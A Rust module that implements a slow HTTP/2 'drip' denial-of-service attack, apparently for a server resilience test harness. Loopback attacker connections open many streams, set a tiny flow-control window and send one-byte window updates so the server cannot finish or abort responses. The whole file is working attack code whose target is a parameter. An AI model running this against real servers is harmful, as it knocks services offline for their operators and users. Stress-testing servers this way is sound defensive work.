//! An attack with slow HTTP/2 clients: each opens a connection with many streams and sometimes enlarges the window of a
//! stream by one byte, so that the server can neither complete nor abort a response.

use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::{Instant, sleep, timeout_at};

use crate::Failure;

/// Local addresses of the attackers. Measured requests come from another address.
const ATTACKERS: [Ipv4Addr; 2] = [Ipv4Addr::new(127, 0, 0, 2), Ipv4Addr::new(127, 0, 0, 3)];
/// Number of streams per connection.
const STREAMS: usize = 30;
/// Pause between two window updates; shorter than the time after which the server closes a slow connection.
const DRIP: Duration = Duration::from_secs(8);
/// Pause before a closed connection is opened again.
const PAUSE: Duration = Duration::from_millis(100);

/// Keeps connections open until `stop` is set. Each stream requests `/api/health` with a window of `window` bytes,
/// which must be smaller than the response.
pub fn until(
    stop: &Arc<AtomicBool>,
    address: &str,
    (connections, window): (usize, u32),
) -> Result<(), Failure> {
    let to: SocketAddr = address.parse()?;
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
    runtime.block_on(async {
        for (_, from) in (0..connections).zip(ATTACKERS.into_iter().cycle()) {
            tokio::spawn(async move {
                loop {
                    // the server may reject the connection; then it is opened again
                    let _ = drip(from, to, window).await;
                    sleep(PAUSE).await;
                }
            });
        }
        while !stop.load(Ordering::Relaxed) {
            sleep(PAUSE).await;
        }
    });
    Ok(())
}

/// Occupies a connection until the server closes it.
async fn drip(from: Ipv4Addr, to: SocketAddr, window: u32) -> std::io::Result<()> {
    let mut stream = connect(from, to, window).await?;
    let streams = || (1_u32..).step_by(2).take(STREAMS);
    stream.write_all(&streams().flat_map(request).collect::<Vec<_>>()).await?;
    for id in streams() {
        let mut seen = [0; 4096];
        let until = Instant::now() + DRIP;
        while let Ok(read) = timeout_at(until, stream.read(&mut seen)).await {
            if read? == 0 {
                return Ok(());
            }
        }
        // WINDOW_UPDATE
        stream.write_all(&frame(8, 0, id, &1_u32.to_be_bytes())).await?;
    }
    Ok(())
}

async fn connect(from: Ipv4Addr, to: SocketAddr, window: u32) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(SocketAddrV4::new(from, 0).into())?;
    let mut stream = socket.connect(to).await?;
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    // SETTINGS_INITIAL_WINDOW_SIZE
    let [a, b, c, d] = window.to_be_bytes();
    bytes.extend(frame(4, 0, 0, &[0, 4, a, b, c, d]));
    stream.write_all(&bytes).await?;
    Ok(stream)
}

/// Returns the HEADERS frame of `GET /api/health`. Names are in HPACK's static table, values are literals.
fn request(stream: u32) -> Vec<u8> {
    const PATH: &[u8; 11] = b"/api/health";
    let mut block = vec![0x82, 0x86, 0x01, 1, b'x', 0x04, 11];
    block.extend(PATH);
    // END_STREAM and END_HEADERS
    frame(1, 5, stream, &block)
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frame_has_length_type_flags_and_stream() {
        assert_eq!(frame(8, 0, 3, &[0, 0, 0, 1]), [0, 0, 4, 8, 0, 0, 0, 0, 3, 0, 0, 0, 1]);
        assert_eq!(request(1)[..9], [0, 0, 18, 1, 5, 0, 0, 0, 1]);
    }
}
